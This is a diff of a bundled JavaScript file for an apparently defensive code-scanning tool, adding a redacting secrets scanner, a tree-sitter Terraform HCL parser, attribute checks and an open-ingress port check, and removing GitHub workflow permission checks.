+    for (const w of words) {
+        let n = root;
+        for (const c of w) {
+            let child = n.next.get(c);
+            if (!child) {
+                child = { next: new Map() };
+                n.next.set(c, child);
+            }
+            n = child;
+        }
+        n.end = true;
+    }
+    const emit = (n) => {
+        const alts = [...n.next]
+            .sort(([a], [b]) => (a < b ? -1 : 1))
+            .map(([c, child]) => escapeRegex(c) + emit(child));
+        if (alts.length === 0)
+            return '';
+        const body = alts.length === 1 ? alts[0] : `(?:${alts.join('|')})`;
+        return n.end ? `(?:${body})?` : body;
+    };
+    return emit(root);
+}
+/** Secrets found in a file (cached per run); empty for files that are not readable text. */
+function scan_scanFile(workspace, file) {
+    return workspace.memo('secrets', file, () => {
+        const text = workspace.text(file);
+        return text === undefined ? [] : scanText(file, text);
+    });
+}
+/** Scans one text with every detector. Exposed for tests and the benchmark. */
+function scanText(path, text) {
+    prefilter ??= buildPrefilter();
+    const { byKeyword, byGroup } = prefilter;
+    // Matching lower-cased text without the `i` flag is much faster; offsets agree unless lower-casing
+    // changed the length (a few Unicode letters), where the case-insensitive form is used instead.
+    const lowered = text.toLowerCase();
+    const sameLength = lowered.length === text.length;
+    const re = sameLength ? prefilter.lower : prefilter.ignoreCase;
+    const haystack = sameLength ? lowered : text;
+    const ctx = { path, text };
+    const hits = [];
+    const awsLines = [];
+    re.lastIndex = 0;
+    let m = re.exec(haystack);
+    // Line numbers are counted incrementally from the last line visited (matches come in order).
+    let lineNo = 1;
+    let counted = 0;
+    while (m) {
+        const lineStart = text.lastIndexOf('\n', m.index - 1) + 1;
+        let lineEnd = text.indexOf('\n', m.index);
+        if (lineEnd === -1)
+            lineEnd = text.length;
+        lineNo += countNewlines(text, counted, lineStart);
+        counted = lineStart;
+        const capEnd = Math.min(lineEnd, lineStart + MAX_LINE_CHARS);
+        const wanted = new Set();
+        while (m && m.index < lineEnd) {
+            if (m.index + m[0].length <= capEnd) {
+                const group = m.findIndex((g, i) => i > 0 && g !== undefined);
+                const detectors = group > 0 ? byGroup[group - 1] : byKeyword.get(m[0].toLowerCase());
+                for (const d of detectors ?? [])
+                    wanted.add(d);
+            }
+            m = re.exec(haystack);
+        }
+        if (wanted.size > 0) {
+            let stop = capEnd;
+            if (stop === lineEnd && stop > lineStart && text.charCodeAt(stop - 1) === 13)
+                stop -= 1;
+            const line = text.slice(lineStart, stop);
+            for (const d of wanted) {
+                for (const hit of d.find(line, ctx)) {
+                    hits.push(toHit(d.id, lineNo, hit));
+                    if (d.id === 'aws-access-key-id')
+                        awsLines.push(lineNo);
+                }
+            }
+        }
+    }
+    if (awsLines.length > 0)
+        hits.push(...awsSecretsNear(text, awsLines));
+    return resolveOverlaps(hits);
+}
+function toHit(detector, line, hit) {
+    return { detector, line, ...hit, entropy: hit.entropy ?? shannonEntropy(hit.value) };
+}
+function countNewlines(text, from, to) {
+    let n = 0;
+    for (let i = text.indexOf('\n', from); i !== -1 && i < to; i = text.indexOf('\n', i + 1))
+        n += 1;
+    return n;
+}
+/** Unnamed 40-character secrets within {@link AWS_PAIR_WINDOW} lines of an AWS access key ID. */
+function awsSecretsNear(text, keyLines) {
+    const wanted = new Set();
+    for (const l of keyLines) {
+        for (let i = Math.max(1, l - AWS_PAIR_WINDOW); i <= l + AWS_PAIR_WINDOW; i++)
+            wanted.add(i);
+    }
+    const hits = [];
+    let lineNo = 1;
+    let start = 0;
+    const last = Math.max(...wanted);
+    while (start <= text.length && lineNo <= last) {
+        let end = text.indexOf('\n', start);
+        if (end === -1)
+            end = text.length;
+        if (wanted.has(lineNo)) {
+            const line = text.slice(start, Math.min(end, start + MAX_LINE_CHARS));
+            for (const hit of findAwsSecrets(line))
+                hits.push(toHit('aws-secret-access-key', lineNo, hit));
+        }
+        start = end + 1;
+        lineNo += 1;
+    }
+    return hits;
+}
+const RANK = new Map();
+for (const d of DETECTORS)
+    RANK.set(d.id, FAMILY_PRIORITY.indexOf(d.family));
+/**
+ * One secret, one hit: where spans on a line overlap (a GitHub token inside a connection string, an
+ * AWS key assigned to `secret_key = ...`), the most specific family keeps it and the others drop it.
+ */
+function resolveOverlaps(hits) {
+    hits.sort((a, b) => a.line - b.line || RANK.get(a.detector) - RANK.get(b.detector) || a.start - b.start);
+    const kept = [];
+    let lineStart = 0;
+    for (const h of hits) {
+        if (kept.length > 0 && kept[kept.length - 1].line !== h.line)
+            lineStart = kept.length;
+        let clash = false;
+        for (let i = lineStart; i < kept.length && !clash; i++) {
+            const k = kept[i];
+            clash = k.line === h.line && k.start < h.end && h.start < k.end;
+        }
+        if (!clash)
+            kept.push(h);
+    }
+    return kept.sort((a, b) => a.line - b.line || a.start - b.start);
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/secrets/evaluator.js
+
+
+
+
+
+/** Files that hold checksums, generated or minified content: random-looking by design, never keys. */
+const DEFAULT_EXCEPT = [
+    '**/package-lock.json',
+    '**/npm-shrinkwrap.json',
+    '**/yarn.lock',
+    '**/pnpm-lock.yaml',
+    '**/bun.lock',
+    '**/Cargo.lock',
+    '**/Gemfile.lock',
+    '**/gems.locked',
+    '**/poetry.lock',
+    '**/Pipfile.lock',
+    '**/uv.lock',
+    '**/pdm.lock',
+    '**/composer.lock',
+    '**/go.sum',
+    '**/packages.lock.json',
+    '**/*.min.{js,css}',
+    '**/*.{js,css}.map',
+    '**/node_modules/**',
+];
+/**
+ * `secrets.scan`: secrets in the contents of text files, found by the detector library (detectors.ts)
+ * in one pass per file that every secret rule shares. A rule picks the detectors it reports; a value
+ * claimed by a more specific detector is not reported again by a generic one. Findings carry only a
+ * redacted form of the value (a prefix of at most four characters and the length), and their identity
+ * is a salted hash of a random token or the non-secret context of a chosen password.
+ */
+const secretsScan = defineEvaluator({
+    kind: 'secrets.scan',
+    summary: 'Secrets in file contents (tokens, keys, passwords), reported with a redacted value only.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        required: ['detectors'],
+        properties: {
+            detectors: {
+                type: 'array',
+                minItems: 1,
+                uniqueItems: true,
+                items: { enum: [...DETECTOR_IDS] },
+                description: `Detectors whose hits this rule reports: ${DETECTOR_IDS.join(', ')}.`,
+            },
+            paths: globList('Globs of the files to scan.', { default: ['**'] }),
+            except: globList('Globs of files not to scan. Setting it replaces the defaults (lockfiles, minified bundles, source maps).', { default: DEFAULT_EXCEPT }),
+            minEntropy: {
+                type: 'number',
+                minimum: 0,
+                maximum: 8,
+                default: 3,
+                description: 'Shannon entropy, in bits per character, that a value assigned to a secret-looking name must reach ' +
+                    '(generic-secret-assignment only); random 16-character tokens score about 3.7, words about 2.5.',
+            },
+        },
+    },
+    evaluate({ options, workspace }) {
+        const wanted = new Set(options.detectors);
         const findings = [];
-        walkWorkflows(workflowSources(workspace), {
-            workflow(workflow) {
-                const top = writeAll(workflow.path, workflow.permissions, 'the workflow');
-                if (top)
-                    findings.push(top);
-                const missing = missingPermissions(workflow);
-                if (missing)
-                    findings.push(missing);
-            },
-            job(job, workflow) {
-                const finding = writeAll(workflow.path, job.permissions, `job "${job.id}"`, job.id);
-                if (finding)
-                    findings.push(finding);
-            },
-        });
+        for (const file of selectFiles(workspace, options)) {
+            for (const hit of scan_scanFile(workspace, file)) {
+                if (!wanted.has(hit.detector))
+                    continue;
+                if (hit.detector === 'generic-secret-assignment' && hit.entropy < options.minEntropy)
+                    continue;
+                findings.push(toFinding(file, hit));
+            }
+        }
         return findings;
     },
 });
-function writeAll(path, permissions, scope, jobId = '') {
-    const shorthand = permissions?.shorthand;
-    if (shorthand?.value.trim() !== 'write-all')
-        return undefined;
+/** Turns a hit into a finding whose message and key are checked not to contain the value. */
+function toFinding(file, hit) {
+    const detector = getDetector(hit.detector);
+    const shown = redact(hit.value);
+    let context = hit.context;
+    if (context !== undefined && leaks(context, hit.value))
+        context = undefined;
+    const label = hit.label.charAt(0).toUpperCase() + hit.label.slice(1);
+    const where = context && detector?.identity === 'context' ? ` in \`${context}\`` : '';
+    const message = detector?.family === 'private-key'
+        ? `${label} is committed (header \`${hit.value}\`).`
+        : detector?.family === 'generic'
+            ? `A literal secret is assigned to \`${context ?? 'a secret-looking name'}\`: ${shown}.`
+            : `${label} is committed${where}: ${shown}.`;
+    let key;
+    switch (detector?.identity) {
+        case 'value':
+            key = secretIdentity(hit.detector, hit.value);
+            break;
+        case 'context':
+            key = `${hit.detector}:${context ?? ''}`;
+            break;
+        default:
+            key = `${hit.detector}:${hit.label}`;
+    }
     return {
-        message: `"permissions: write-all" gives the GITHUB_TOKEN of ${scope} write access to every scope; ` +
-            'list only the scopes it needs (for example "contents: read").',
-        location: locationFromSpan(path, shorthand.span),
-        key: `write-all:${jobId}`,
+        message,
+        location: {
+            path: file,
+            startLine: hit.line,
+            endLine: hit.line,
+            startColumn: hit.start + 1,
+            endColumn: Math.max(hit.start + 1, hit.end),
+        },
+        key,
     };
 }
-function missingPermissions(workflow) {
-    if (workflow.permissions)
-        return undefined;
-    const events = workflow.on?.events ?? [];
-    if (events.length > 0 && events.every((e) => e.event === 'workflow_call'))
-        return undefined;
-    const bare = workflow.jobs.filter((job) => !job.permissions);
-    if (bare.length === 0)
-        return undefined;
-    const names = bare.map((job) => `"${job.id}"`).join(', ');
-    const which = bare.length === workflow.jobs.length
-        ? 'no job declares any'
-        : `job${bare.length > 1 ? 's' : ''} ${names} declare${bare.length > 1 ? '' : 's'} none`;
+/** True when `text` contains the value or any 8-character piece of it (the no-leak guarantee). */
+function leaks(text, value) {
+    if (value.length < 8)
+        return text.includes(value) && value.length >= 4;
+    for (let i = 0; i + 8 <= value.length; i++)
+        if (text.includes(value.slice(i, i + 8)))
+            return true;
+    return false;
+}
+
+// EXTERNAL MODULE: ./node_modules/web-tree-sitter/web-tree-sitter.cjs
+var web_tree_sitter = __nccwpck_require__(551);
+;// CONCATENATED MODULE: ./lib/core/parsers/terraform-hcl.js
+
+
+
+// The CommonJS build on purpose: the ESM build imports `module` dynamically, which the ncc bundle
+// turns into a namespace without `createRequire`. A relative path because the package does not
+// export that file (src/ and lib/ sit at the same depth, and ncc bundles it); its types are the
+// package's, declared for the package name only.
+// @ts-expect-error TS2306: the .d.cts beside it declares `module 'web-tree-sitter'`, not this path.
+
+const treeSitter = web_tree_sitter;
+/**
+ * Loads the HCL grammar of tree-sitter (`@tree-sitter-grammars/tree-sitter-hcl`, compiled to
+ * WebAssembly and run by `web-tree-sitter`): a complete, error-tolerant HCL2 parser with exact source
+ * ranges for every node, offline, and without native code. The syntax tree it returns is turned into
+ * plain objects by terraform-syntax.ts.
+ */
+/** Parsing stops (and the file is reported as not parsed) after this long. */
+const PARSE_TIMEOUT_MS = 10000;
+// How the two WebAssembly files reach the bundle. `readFileSync(new URL(literal, import.meta.url))`,
+// written out in full, is what ncc's asset relocator recognises: it copies the file beside the bundle
+// unchanged and rewrites the path. A bare `new URL(...)` goes through webpack's asset handling instead,
+// which writes the binary as text and corrupts it. The relocator also skips, silently, any file whose
+// syntax its parser does not know: no `??=`, `||=` or numeric separators in this module (a test
+// checks).
+const readRuntimeWasm = () => (0,external_node_fs_namespaceObject.readFileSync)(__nccwpck_require__.ab + "web-tree-sitter.wasm");
+const readGrammarWasm = () => (0,external_node_fs_namespaceObject.readFileSync)(__nccwpck_require__.ab + "tree-sitter-hcl.wasm");
+let loading;
+/** The shared HCL parser, loaded (once) on first use: runs without Terraform files never pay for it. */
+function loadHclParser() {
+    if (!loading) {
+        loading = createParser().catch((err) => {
+            loading = undefined;
+            throw new Error(`cannot load the HCL parser: ${err instanceof Error ? err.message : String(err)}`);
+        });
+    }
+    return loading;
+}
+async function createParser() {
+    const g = globalThis;
+    // The CommonJS glue reads `__dirname` to find its wasm, which an ESM bundle does not define; it is
+    // only a search path, unused because the bytes are passed in.
+    if (g.__dirname === undefined)
+        g.__dirname = external_node_path_namespaceObject.dirname((0,external_node_url_namespaceObject.fileURLToPath)(import.meta.url));
+    await treeSitter.Parser.init({ wasmBinary: readRuntimeWasm() });
+    const language = await treeSitter.Language.load(readGrammarWasm());
+    const parser = new treeSitter.Parser();
+    parser.setLanguage(language);
     return {
-        message: `No top-level "permissions:" and ${which}, so ${bare.length > 1 ? 'they run' : 'it runs'} with the ` +
-            "repository's default GITHUB_TOKEN permissions, which can include write access to every scope. " +
-            'Add "permissions: { contents: read }" above "jobs:" and grant more per job where needed.',
-        location: locationFromSpan(workflow.path, workflow.jobsNode.span, true),
-        key: 'missing-permissions',
+        parse(text, lines) {
+            const deadline = Date.now() + PARSE_TIMEOUT_MS;
+            const tree = parser.parse(text, null, { progressCallback: () => Date.now() > deadline });
+            if (!tree) {
+                // A cancelled parse would otherwise resume from where it stopped on the next call.
+                parser.reset();
+                return { ok: false, error: { message: 'parsing took too long', line: 1, column: 1 } };
+            }
+            try {
+                if (tree.rootNode.hasError)
+                    return { ok: false, error: firstError(tree.rootNode, lines) };
+                return { ok: true, root: plainTree(tree) };
+            }
+            finally {
+                tree.delete();
+            }
+        },
     };
+}
+function firstError(root, lines) {
+    const stack = [root];
+    while (stack.length > 0) {
+        const node = stack.pop();
+        if (node.isMissing || node.isError) {
+            const at = lines.position(node.startIndex);
+            const snippet = node.text.split('\n')[0].slice(0, 40);
+            const message = node.isMissing
+                ? `syntax error: missing ${JSON.stringify(node.type)}`
+                : snippet
+                    ? `syntax error near ${JSON.stringify(snippet)}`
+                    : 'syntax error';
+            return { message, line: at.line, column: at.column };
+        }
+        // Depth-first in source order: push children last-to-first.
+        const children = node.children.filter((c) => c.hasError || c.isMissing);
+        for (let i = children.length - 1; i >= 0; i--)
+            stack.push(children[i]);
+    }
+    return { message: 'syntax error', line: 1, column: 1 };
+}
+/** Copies the named nodes (comments excepted) of a tree in one cursor pass, without recursion. */
+function plainTree(tree) {
+    const cursor = tree.walk();
+    try {
+        const root = {
+            type: cursor.nodeType,
+            start: cursor.startIndex,
+            end: cursor.endIndex,
+            children: [],
+        };
+        const parents = [root];
+        for (;;) {
+            if (cursor.gotoFirstChild()) {
+                parents.push(terraform_hcl_visit(cursor, parents[parents.length - 1]));
+                continue;
+            }
+            for (;;) {
+                parents.pop();
+                if (cursor.gotoNextSibling()) {
+                    parents.push(terraform_hcl_visit(cursor, parents[parents.length - 1]));
+                    break;
+                }
+                if (!cursor.gotoParent())
+                    return root;
+            }
+        }
+    }
+    finally {
+        cursor.delete();
+    }
+}
+/**
+ * Records the cursor's node under `parent` when it is named, and returns where its own children go:
+ * itself, or (for an anonymous token, which has none worth keeping) a throwaway holder.
+ */
+function terraform_hcl_visit(cursor, parent) {
+    const node = {
+        type: cursor.nodeType,
+        start: cursor.startIndex,
+        end: cursor.endIndex,
+        children: [],
+    };
+    if (cursor.nodeIsNamed && node.type !== 'comment')
+        parent.children.push(node);
+    return node;
+}
+
+;// CONCATENATED MODULE: ./lib/core/parsers/terraform-syntax.js
+/** Expressions (and blocks) nested deeper than this are kept as unknown (empty) instead of walked. */
+const terraform_syntax_MAX_DEPTH = 64;
+/**
+ * Parses HCL text into the plain model. Never throws: a syntax error (the first one in source order)
+ * or a parse that ran out of time is returned as a located error.
+ */
+function parseHcl(parser, text, lines) {
+    const parsed = parser.parse(text, lines);
+    if (!parsed.ok)
+        return parsed;
+    const body = parsed.root.children.find((c) => c.type === 'body');
+    return { ok: true, body: body ? new Builder(text, lines).body(body) : { attributes: [], blocks: [] } };
+}
+class Builder {
+    text;
+    lines;
+    constructor(text, lines) {
+        this.text = text;
+        this.lines = lines;
+    }
+    src(node) {
+        return this.text.slice(node.start, node.end);
+    }
+    span(node) {
+        return {
+            start: this.lines.position(node.start),
+            end: this.lines.position(Math.max(node.start, node.end - 1)),
+        };
+    }
+    body(node, depth = 0) {
+        const body = { attributes: [], blocks: [] };
+        // Real configurations nest a handful of blocks; a pathological file must not exhaust the stack.
+        if (depth > terraform_syntax_MAX_DEPTH)
+            return body;
+        for (const child of node.children) {
+            if (child.type === 'attribute') {
+                const [name, value] = child.children;
+                if (!name || !value)
+                    continue;
+                body.attributes.push({
+                    name: this.src(name),
+                    nameSpan: this.span(name),
+                    span: this.span(child),
+                    value: this.value(value, 0),
+                });
+            }
+            else if (child.type === 'block') {
+                body.blocks.push(this.block(child, depth));
+            }
+        }
+        return body;
+    }
+    block(node, depth) {
+        const [type, ...rest] = node.children;
+        const labels = rest
+            .filter((c) => c.type === 'string_lit' || c.type === 'identifier')
+            .map((c) => (c.type === 'string_lit' ? unescapeQuoted(this.literalChunks(c)) : this.src(c)));
+        const inner = rest.find((c) => c.type === 'body');
+        return {
+            type: type ? this.src(type) : '',
+            labels,
+            typeSpan: this.span(type ?? node),
+            span: this.span(node),
+            body: inner ? this.body(inner, depth + 1) : { attributes: [], blocks: [] },
+        };
+    }
+    value(node, depth) {
+        const span = this.span(node);
+        const text = this.src(node);
+        const unknown = { kind: 'expression', span, text };
+        if (depth > terraform_syntax_MAX_DEPTH)
+            return unknown;
+        const named = node.children;
+        // A traversal (`a.b[0]`) has several children; a parenthesised value has one named child.
+        if (node.type === 'expression')
+            return named.length === 1 ? this.value(named[0], depth + 1) : unknown;
+        switch (node.type) {
+            case 'literal_value':
+            case 'collection_value':
+                return named[0] ? this.value(named[0], depth + 1) : unknown;
+            case 'numeric_lit':
+                return Number.isFinite(Number(text)) ? { kind: 'number', value: Number(text), span, text } : unknown;
+            case 'bool_lit':
+                return { kind: 'bool', value: text === 'true', span, text };
+            case 'null_lit':
+                return { kind: 'null', span, text };
+            case 'string_lit':
+                return { kind: 'string', value: unescapeQuoted(this.literalChunks(node)), span, text };
+            case 'template_expr':
+                return named[0] ? this.template(named[0], span, text) : unknown;
+            case 'tuple':
+                return {
+                    kind: 'tuple',
+                    items: named.filter((c) => c.type === 'expression').map((c) => this.value(c, depth + 1)),
+                    span,
+                    text,
+                };
+            case 'object':
+                return { kind: 'object', entries: this.entries(named, depth), span, text };
+            case 'operation': {
+                // `-1` is an operation in the grammar, but a literal to a reader.
+                const unary = named[0];
+                const operand = unary?.type === 'unary_operation' ? unary.children[0] : undefined;
+                if (unary && this.src(unary).startsWith('-') && operand?.type === 'literal_value') {
+                    const inner = this.value(operand, depth + 1);
+                    if (inner.kind === 'number')
+                        return { kind: 'number', value: -inner.value, span, text };
+                }
+                return unknown;
+            }
+            default:
+                return unknown;
+        }
+    }
+    entries(named, depth) {
+        const out = [];
+        for (const elem of named) {
+            if (elem.type !== 'object_elem')
+                continue;
+            const [keyNode, valueNode] = elem.children;
+            if (!keyNode || !valueNode)
+                continue;
+            const key = this.value(keyNode, depth + 1);
+            // A bare name is the key itself, not a reference to a variable of that name.
+            const name = key.kind === 'string'
+                ? key.value
+                : key.kind === 'expression' && /^[A-Za-z_][\w-]*$/.test(key.text)
+                    ? key.text
+                    : undefined;
+            out.push({ key: name, keySpan: key.span, value: this.value(valueNode, depth + 1) });
+        }
+        return out;
+    }
+    template(node, span, text) {
+        const dynamic = node.children.some((c) => c.type === 'template_interpolation' || c.type === 'template_directive');
+        if (dynamic)
+            return { kind: 'template', span, text };
+        if (node.type === 'quoted_template') {
+            return { kind: 'string', value: unescapeQuoted(this.literalChunks(node)), span, text };
+        }
+        if (node.type === 'heredoc_template')
+            return { kind: 'string', value: this.heredoc(node, text), span, text };
+        return { kind: 'template', span, text };
+    }
+    /** The literal content of a heredoc without interpolation; `<<-` strips the common indentation. */
+    heredoc(node, text) {
+        const ids = node.children.filter((c) => c.type === 'heredoc_identifier');
+        const open = ids[0];
+        const close = ids[ids.length - 1];
+        if (!open || !close || open === close)
+            return '';
+        const from = this.text.indexOf('\n', open.end) + 1;
+        const to = this.text.lastIndexOf('\n', close.start) + 1;
+        const body = from > 0 && to > from ? this.text.slice(from, to) : '';
+        const unescaped = body.replace(/\$\$\{/g, '${').replace(/%%\{/g, '%{');
+        if (!text.startsWith('<<-'))
+            return unescaped;
+        const rows = unescaped.split('\n');
+        const indents = rows.filter((r) => r.trim() !== '').map((r) => /^[ \t]*/.exec(r)[0].length);
+        const strip = indents.length > 0 ? Math.min(...indents) : 0;
+        return rows.map((r) => r.slice(strip)).join('\n');
+    }
+    /** The raw literal text of a quoted string (escapes still in place). */
+    literalChunks(node) {
+        return node.children
+            .filter((c) => c.type === 'template_literal')
+            .map((c) => this.src(c))
+            .join('');
+    }
+}
+const ESCAPES = { n: '\n', r: '\r', t: '\t', '"': '"', '\\': '\\' };
+/** Decodes HCL's quoted-string escapes: `\n`, `\"`, `\uXXXX`, `\UXXXXXXXX`, `$${` and `%%{`. */
+function unescapeQuoted(raw) {
+    return raw.replace(/\\(u[0-9A-Fa-f]{4}|U[0-9A-Fa-f]{8}|.)|\$\$\{|%%\{/g, (match, esc) => {
+        if (esc === undefined)
+            return match.slice(1);
+        if (esc.length > 1) {
+            const code = Number.parseInt(esc.slice(1), 16);
+            return code <= 0x10ffff ? String.fromCodePoint(code) : match;
+        }
+        return ESCAPES[esc] ?? match;
+    });
+}
+
+;// CONCATENATED MODULE: ./lib/core/parsers/terraform.js
+
+
+
+/**
+ * A model of Terraform configurations: the `.tf` files of the workspace parsed with a real HCL
+ * parser (see terraform-hcl.ts), their resources, providers and backends, each with exact spans.
+ * A file that does not parse is recorded as an input problem (the `unparsable-file` rule reports it)
+ * and contributes nothing, as Terraform itself would refuse it. JSON syntax (`.tf.json`) is not read.
+ */
+const TERRAFORM_GLOBS = ['**/*.tf'];
+/** Provider and module caches that `terraform init` writes; not the repository's configuration. */
+const NOT_CONFIGURATION = ['**/.terraform/**'];
+/** `.tf` files of the workspace, outside `.terraform/` directories. */
+function terraformPaths(workspace) {
+    const skip = workspace.matcher(NOT_CONFIGURATION);
+    return workspace.glob(TERRAFORM_GLOBS).filter((f) => !skip(f));
+}
+/**
+ * Every `.tf` file of the workspace that parses, in index order. Loads the parser on first use (an
+ * asynchronous WebAssembly start), then parses each file once per run, shared by every rule.
+ */
+function terraformFiles(workspace) {
+    // Every Terraform rule asks; the walk and the parses happen once per run.
+    return workspace.memo('terraform-files', '', async () => {
+        const paths = terraformPaths(workspace);
+        if (paths.length === 0)
+            return [];
+        const parser = await loadHclParser();
+        return paths.flatMap((f) => {
+            const file = readTerraformFile(workspace, parser, f);
+            return file ? [file] : [];
+        });
+    });
+}
+/** One file's model (cached), or undefined when it is unreadable or does not parse. */
+function readTerraformFile(workspace, parser, file) {
+    return workspace.memo('terraform', file, () => {
+        const content = workspace.read(file);
+        if (content.kind !== 'text')
+            return undefined;
+        const result = parseHcl(parser, content.text, content.lines);
+        if (!result.ok) {
+            workspace.reportProblem({ path: file, ...result.error });
+            return undefined;
+        }
+        return { path: file, module: external_node_path_namespaceObject.posix.dirname(file), body: result.body };
+    });
+}
+/** The `resource` (and, with `mode: 'data'`, `data`) blocks of the files, optionally of some types. */
+function terraformResources(files, types, mode = 'resource') {
+    const wanted = types ? new Set(types) : undefined;
+    const out = [];
+    for (const file of files) {
+        for (const block of file.body.blocks) {
+            if (block.type !== mode || block.labels.length !== 2)
+                continue;
+            const [type, name] = block.labels;
+            if (wanted && !wanted.has(type))
+                continue;
+            out.push({ file, mode, type, name, block });
+        }
+    }
+    return out;
+}
+/** The attribute `name` of a body, if set. */
+function attribute(body, name) {
+    return body.attributes.find((a) => a.name === name);
+}
+/**
+ * The nested blocks of a type, including the `content` of `dynamic "<type>"` blocks (whose values
+ * are usually references to the iterator, and so unknown).
+ */
+function nestedBlocks(body, type) {
+    const out = [];
+    for (const block of body.blocks) {
+        if (block.type === type)
+            out.push({ block, body: block.body, dynamic: false });
+        else if (block.type === 'dynamic' && block.labels[0] === type) {
+            const content = block.body.blocks.find((b) => b.type === 'content');
+            if (content)
+                out.push({ block, body: content.body, dynamic: true });
+        }
+    }
+    return out;
+}
+/** A literal's value (string, number, bool or null); undefined when it must be evaluated. */
+function terraform_literal(value) {
+    switch (value.kind) {
+        case 'string':
+        case 'number':
+        case 'bool':
+            return value.value;
+        case 'null':
+            return null;
+        default:
+            return undefined;
+    }
+}
+/**
+ * Whether two literals mean the same to Terraform, which converts between strings, numbers and
+ * bools: `true` equals `"true"`, `0` equals `"0"`.
+ */
+function sameLiteral(a, b) {
+    if (a === null || b === null)
+        return a === b;
+    return String(a) === String(b);
+}
+/** How a resource is named in messages: `aws_s3_bucket "logs"`. */
+function describeResource(r) {
+    return `${r.type} "${r.name}"`;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/terraform/shared.js
+/**
+ * Helpers shared by the Terraform evaluators.
+ */
+/** A literal that a rule option can compare against (Terraform converts between these freely). */
+const LITERAL_SCHEMA = { type: ['string', 'number', 'boolean'] };
+/** A location at a span; `point` keeps only its start (a block that lacks a setting, not its whole body). */
+function spanLocation(path, span, point = false) {
+    if (point)
+        return { path, startLine: span.start.line, startColumn: span.start.column };
+    return {
+        path,
+        startLine: span.start.line,
+        startColumn: span.start.column,
+        endLine: span.end.line,
+        endColumn: span.end.column,
+    };
+}
+/** Source text for a message: one line, bounded, so a heredoc does not flood the output. */
+function shortText(text, max = 40) {
+    const first = text.split('\n')[0].trim();
+    return first.length > max || text.includes('\n') ? `${first.slice(0, max)}…` : first;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/terraform/attribute.js
+
+
+
+/**
+ * A data-driven check of resource attributes: a value that must be set (`expect`), values that must
+ * not be (`forbid`), and what an absent attribute means (`missing`). Values computed from variables
+ * or other resources are unknown here and never reported; nested blocks include `dynamic` content.
+ */
+const terraformAttribute = defineEvaluator({
+    kind: 'terraform.attribute',
+    summary: 'Terraform resource attributes (also in nested blocks) that must have, or must not have, a literal value.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        required: ['targets'],
+        properties: {
+            targets: {
+                type: 'array',
+                minItems: 1,
+                items: {
+                    type: 'object',
+                    additionalProperties: false,
+                    required: ['resources', 'attribute'],
+                    anyOf: [{ required: ['expect'] }, { required: ['forbid'] }],
+                    properties: {
+                        resources: { type: 'array', minItems: 1, items: { type: 'string', pattern: '^[a-z0-9_]+$' } },
+                        attribute: { type: 'string', pattern: '^[a-z0-9_]+(\\.[a-z0-9_]+)*$' },
+                        expect: LITERAL_SCHEMA,
+                        forbid: { type: 'array', minItems: 1, items: LITERAL_SCHEMA },
+                        missing: { enum: ['ok', 'report', 'report-in-block'], default: 'ok' },
+                        skipWhen: {
+                            type: 'array',
+                            default: [],
+                            items: {
+                                type: 'object',
+                                additionalProperties: false,
+                                required: ['attribute'],
+                                properties: { attribute: { type: 'string', minLength: 1 }, value: LITERAL_SCHEMA },
+                            },
+                        },
+                        defaultFrom: {
+                            type: 'object',
+                            additionalProperties: false,
+                            required: ['resource', 'attribute', 'value'],
+                            properties: {
+                                resource: { type: 'string', minLength: 1 },
+                                attribute: { type: 'string', minLength: 1 },
+                                value: LITERAL_SCHEMA,
+                            },
+                        },
+                        explain: { type: 'string', minLength: 1 },
+                    },
+                },
+            },
+        },
+    },
+    async evaluate({ options, workspace }) {
+        const files = await terraformFiles(workspace);
+        const findings = [];
+        for (const target of options.targets) {
+            const defaulted = target.defaultFrom !== undefined && declaresDefault(files, target.defaultFrom);
+            for (const resource of terraformResources(files, target.resources)) {
+                if (skipped(resource.block.body, target))
+                    continue;
+                findings.push(...check(resource, target, defaulted));
+            }
+        }
+        return findings;
+    },
+});
+function check(resource, target, defaulted) {
+    const steps = target.attribute.split('.');
+    const name = steps.pop();
+    const findings = [];
+    const finding = (message, span, point) => ({
+        message: `${describeResource(resource)} ${message}${target.explain ? `: ${target.explain}` : ''}.`,
+        location: spanLocation(resource.file.path, span, point),
+        key: `${resource.type}.${resource.name}:${target.attribute}`,
+    });
+    const wanted = target.expect !== undefined ? ` = ${JSON.stringify(target.expect)}` : '';
+    // Walk down the nested blocks; `holders` are the bodies that may hold the attribute.
+    let holders = [{ body: resource.block.body, block: resource.block }];
+    for (const step of steps) {
+        const next = holders.flatMap((h) => nestedBlocks(h.body, step).map((n) => ({ body: n.body, block: n.block })));
+        if (next.length === 0) {
+            if (target.missing === 'report' && !defaulted) {
+                findings.push(finding(`does not set ${target.attribute}${wanted}`, resource.block.typeSpan, true));
+            }
+            return findings;
+        }
+        holders = next;
+    }
+    for (const holder of holders) {
+        const attr = attribute(holder.body, name);
+        if (!attr) {
+            const reportable = target.missing === 'report' || (target.missing === 'report-in-block' && steps.length > 0);
+            if (reportable && !defaulted) {
+                findings.push(finding(`does not set ${target.attribute}${wanted}`, holder.block.typeSpan, true));
+            }
+            continue;
+        }
+        const value = terraform_literal(attr.value);
+        if (value === undefined || value === null)
+            continue;
+        const bad = (target.expect !== undefined && !sameLiteral(value, target.expect)) ||
+            (target.forbid ?? []).some((f) => sameLiteral(value, f));
+        if (bad)
+            findings.push(finding(`sets ${target.attribute} = ${shortText(attr.value.text)}`, attr.value.span, false));
+    }
+    return findings;
+}
+function skipped(body, target) {
+    return target.skipWhen.some((s) => {
+        const attr = attribute(body, s.attribute);
+        if (!attr)
+            return false;
+        if (s.value === undefined)
+            return true;
+        const value = terraform_literal(attr.value);
+        return value !== undefined && value !== null && sameLiteral(value, s.value);
+    });
+}
+function declaresDefault(files, d) {
+    return terraformResources(files, [d.resource]).some((r) => {
+        const attr = attribute(r.block.body, d.attribute);
+        const value = attr && terraform_literal(attr.value);
+        return value !== undefined && value !== null && sameLiteral(value, d.value);
+    });
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/terraform/open-ingress.js
+
+
+
+const PORT_NAMES = {
+    22: 'SSH',
+    23: 'Telnet',
+    1433: 'SQL Server',
+    3306: 'MySQL',
+    3389: 'RDP',
+    5432: 'PostgreSQL',
+    5985: 'WinRM',
+    5986: 'WinRM',
+    6379: 'Redis',
+    9200: 'Elasticsearch',
+    27017: 'MongoDB',
+};
+const AWS_GROUPS = ['aws_security_group', 'aws_default_security_group'];
